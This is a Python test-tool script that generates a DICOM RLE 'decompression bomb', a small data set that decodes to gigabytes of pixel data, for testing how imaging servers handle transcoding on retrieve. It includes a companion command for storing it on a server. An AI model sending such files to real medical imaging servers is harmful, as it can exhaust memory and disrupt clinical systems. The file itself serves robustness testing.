#!/usr/bin/python3
"""Writes an RLE Lossless data set (explicit VR little endian, no file meta) that is small
on the wire but decodes to ROWS x COLUMNS x FRAMES bytes (8-bit MONOCHROME2): every RLE
segment is made of replicate runs (2 bytes for 128 pixels), a 64:1 ratio.

Standard library only. For tests of transcoding on retrieve (C-GET/C-MOVE/tresor send to
a receiver that accepts only uncompressed syntaxes), where the decoded size, not the
stored size, decides the server's memory use.

  rle_bomb.py --sop-instance UID [--rows 4096] [--columns 4096] [--frames 16] -o FILE

Store it with: raw_scu.py --ts 1.2.840.10008.1.2.5 store --sop-instance UID --dataset FILE
Its study is UID + ".0", its series UID + ".0.1".
"""
import argparse
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import dicom_bytes as d  # noqa: E402


def rle_bomb(uid, rows, columns, frames):
    us = lambda v: struct.pack("<H", v)  # noqa: E731
    pairs = d.identifying_elements(uid, study=uid + ".0", series=uid + ".0.1")
    pairs += [
        ((0x0028, 0x0002), d.element(0x0028, 0x0002, "US", us(1))),
        ((0x0028, 0x0004), d.element(0x0028, 0x0004, "CS", "MONOCHROME2")),
        ((0x0028, 0x0008), d.element(0x0028, 0x0008, "IS", str(frames))),
        ((0x0028, 0x0010), d.element(0x0028, 0x0010, "US", us(rows))),
        ((0x0028, 0x0011), d.element(0x0028, 0x0011, "US", us(columns))),
        ((0x0028, 0x0100), d.element(0x0028, 0x0100, "US", us(8))),
        ((0x0028, 0x0101), d.element(0x0028, 0x0101, "US", us(8))),
        ((0x0028, 0x0102), d.element(0x0028, 0x0102, "US", us(7))),
        ((0x0028, 0x0103), d.element(0x0028, 0x0103, "US", us(0))),
    ]
    # One segment per frame: the RLE header (segment count 1, offset 64), then replicate
    # runs: control byte 0x81 (-127: repeat the next byte 128 times), value 0.
    segment = b"\x81\x00" * ((rows * columns + 127) // 128)
    fragment = struct.pack("<16I", 1, 64, *([0] * 14)) + segment
    if len(fragment) % 2:
        fragment += b"\0"
    pixel = d.header(0x7FE0, 0x0010, "OB", d.UNDEFINED_LENGTH) + d.item_start(0)
    pixel += (d.item_start(len(fragment)) + fragment) * frames + d.sequence_end()
    pairs.append(((0x7FE0, 0x0010), pixel))
    return d.assemble(pairs)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--sop-instance", required=True)
    parser.add_argument("--rows", type=int, default=4096)
    parser.add_argument("--columns", type=int, default=4096)
    parser.add_argument("--frames", type=int, default=16)
    parser.add_argument("-o", "--output", required=True)
    args = parser.parse_args()
    with open(args.output, "wb") as f:
        f.write(rle_bomb(args.sop_instance, args.rows, args.columns, args.frames))


if __name__ == "__main__":
    main()
